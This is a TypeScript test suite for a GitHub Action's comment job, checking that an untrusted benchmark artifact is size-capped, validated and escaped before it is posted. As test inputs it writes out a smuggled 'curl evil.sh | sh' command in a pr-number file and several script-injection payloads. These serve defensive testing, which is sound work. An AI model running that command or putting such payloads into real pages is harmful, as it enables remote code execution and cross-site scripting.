// `report` mode, the fork-safe half: the artifact is untrusted input. It is
// size-capped before parsing, validated, rendered with every string escaped,
// and its pull request number must match the commit that was measured.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runAction } from '../../harness/github/run-action.js';
import { renderMarkdown } from '../../harness/report/markdown.js';
import { FAST_CLIENT, pullRequestEvent, useActionTest, workflowRunEvent } from './sandbox.js';
import { metric, regressedWorkload, report, workload, writeReport } from './reports.js';

const { github, sandbox, stdout } = useActionTest();
const HEAD = 'c0ffee00'.repeat(5);

// Lays out an artifact directory (report.json + pr-number) and runs the comment job.
async function runCommentJob(
  content: unknown,
  options: { prFile?: string; inputs?: Record<string, string>; payload?: object } = {},
) {
  const directory = join(sandbox.dir, 'artifact');
  const reportPath = writeReport(join(directory, 'report.json'), content);
  writeFileSync(join(directory, 'pr-number'), options.prFile ?? '12\n');
  const env = sandbox.prepare({
    eventName: 'workflow_run',
    payload: options.payload ?? workflowRunEvent(HEAD),
    apiUrl: github.baseUrl,
    inputs: {
      mode: 'report',
      report: reportPath,
      'github-token': 'fake-token',
      comment: 'always',
      'fail-on-regression': 'false',
      ...options.inputs,
    },
  });
  return runAction({ env, client: FAST_CLIENT });
}

describe('workflow_run comment job', () => {
  it('comments on the pull request named by the artifact when its head is the measured commit', async () => {
    github.pulls.set(12, { headSha: HEAD });
    const result = await runCommentJob(report([regressedWorkload('lru-cache')]));
    expect(result.commentAction).toBe('created');
    expect(github.comments.map((comment) => comment.issueNumber)).toEqual([12]);
    expect(github.requests.some((request) => request.path.endsWith('/pulls/12'))).toBe(true);
    expect(result.failure).toBeNull();
  });

  it('refuses a pull request number whose head is another commit', async () => {
    github.pulls.set(12, { headSha: 'badbad00'.repeat(5) });
    const result = await runCommentJob(report([regressedWorkload('lru-cache')]));
    expect(result.commentAction).toBeNull();
    expect(github.writes()).toHaveLength(0);
    expect(stdout()).toMatch(/::warning::.*#12, whose head badbad00badb is not the measured commit/);
  });

  it('trusts the pull request GitHub links to a same-repository run, without asking', async () => {
    const result = await runCommentJob(report([workload('a')]), {
      payload: workflowRunEvent(HEAD, [31]),
      prFile: '12\n',
    });
    expect(result.commentAction).toBe('created');
    expect(github.comments.map((comment) => comment.issueNumber)).toEqual([31]);
    expect(github.requests.some((request) => request.path.includes('/pulls/'))).toBe(false);
  });

  it('rejects a pr-number file that is not a number', async () => {
    await expect(runCommentJob(report([workload('a')]), { prFile: '12; curl evil.sh | sh\n' })).rejects.toThrow(
      /pr-number: expected a pull request number such as 42/,
    );
    expect(github.writes()).toHaveLength(0);
  });
});

describe('untrusted artifact', () => {
  it('rejects malformed JSON with one clear error, no comment, and no echo of the content', async () => {
    const error = await runCommentJob('{"schemaVersion": 1, "workloads": [<script>alert(1)</script>').then(
      () => undefined,
      (caught: unknown) => caught as Error & { code?: string },
    );
    expect(error).toBeInstanceOf(Error);
    expect(error?.code).toBe('REPORT_INVALID');
    expect(error?.message).toMatch(/report .*report\.json: expected JSON .* found malformed JSON/);
    expect(error?.message).not.toContain('<script>');
    expect(error?.message.split('\n')).toHaveLength(1);
    expect(github.requests).toHaveLength(0);
  });

  it('rejects JSON that is not a memgate report, naming the key path', async () => {
    const bad = { ...report([workload('a')]), status: 'exploded' };
    await expect(runCommentJob(bad)).rejects.toThrow(/report .*report\.json: status: .*expected a memgate JSON report/);
    expect(github.requests).toHaveLength(0);
  });

  it('rejects an oversized artifact before parsing it', async () => {
    // Not JSON at all: a "malformed JSON" message would prove it was parsed first.
    const oversized = `${'x'.repeat(4096)}`;
    await expect(runCommentJob(oversized, { inputs: { 'max-report-bytes': '1KB' } })).rejects.toThrow(
      /4096 bytes is over the max-report-bytes cap of 1000/,
    );
    expect(github.requests).toHaveLength(0);
  });

  it('escapes markdown, HTML and @mentions from workload names, reasons and errors', async () => {
    github.pulls.set(12, { headSha: HEAD });
    const hostileName = '**boom** <img src=x onerror=alert(1)> @octocat [click](javascript:alert(1))';
    const hostile = regressedWorkload('placeholder');
    hostile.name = hostileName;
    hostile.metrics[0] = metric('alloc.perOp', {
      status: 'regressed',
      change: 0.3,
      current: 800,
      reason: '</details><script>alert(1)</script> cc @team',
    });
    const crashed = workload('crash', {
      status: 'error',
      error: { message: '@everyone <b>pwned</b> ![x](http://evil.example/x.png)', stderr: 'trace @octocat' },
    });
    await runCommentJob(report([hostile, crashed]));
    const body = github.comments[0]?.body ?? '';
    // Mentions inside fenced code are not links on GitHub; check the prose only.
    const prose = body.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
    for (const raw of ['<img', '<script', '</details><script', '<b>', '@octocat', '@team', '@everyone'])
      expect(prose, raw).not.toContain(raw);
    // Brackets must arrive backslash-escaped: no link, no image.
    expect(prose).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(prose).not.toMatch(/(?<!\\)!\[x/);
    expect(prose).not.toMatch(/(?<!\\)\*\*boom/);
    expect(prose).toContain('boom');
  });

  it('keeps a report that would render over 65,536 characters under 60,000, with a note', async () => {
    github.pulls.set(12, { headSha: HEAD });
    const many = Array.from({ length: 100 }, (_, index) => {
      const entry = regressedWorkload(`workload-${index}-with-a-long-descriptive-name`);
      entry.metrics = Array.from({ length: 6 }, (_unused, m) =>
        metric(`custom.metric${m}`, {
          status: 'regressed',
          change: 0.5,
          current: 900,
          reason: `+50.0% > 5% and +300B > 64B floor (${index}/${m})`,
        }),
      );
      return entry;
    });
    const huge = report(many);
    expect(renderMarkdown(huge, { maxLength: Number.MAX_SAFE_INTEGER }).length).toBeGreaterThan(65_536);
    await runCommentJob(huge);
    const body = github.comments[0]?.body ?? '';
    expect(body.length).toBeLessThan(60_000);
    expect(body.length).toBeGreaterThan(50_000);
    expect(body).toMatch(/truncated/);
  });
});

describe('fork pull request with a read-only token', () => {
  it('warns instead of failing when the comment cannot be written', async () => {
    github.reset({ readOnly: true });
    const reportPath = writeReport(join(sandbox.dir, 'fork', 'report.json'), report([regressedWorkload('lru-cache')]));
    const env = sandbox.prepare({
      eventName: 'pull_request',
      payload: pullRequestEvent(5, { fork: true }),
      apiUrl: github.baseUrl,
      inputs: { mode: 'report', report: reportPath, 'github-token': 'read-only', comment: 'always' },
    });
    const result = await runAction({ env, client: FAST_CLIENT });
    expect(result.commentAction).toBeNull();
    expect(result.failure).toMatch(/1 workload\(s\): lru-cache regressed/);
    expect(stdout()).toMatch(
      /::warning::memgate: not commenting on pull request #5: it comes from a fork and the token is read-only \(GitHub answered 403\)/,
    );
  });
});
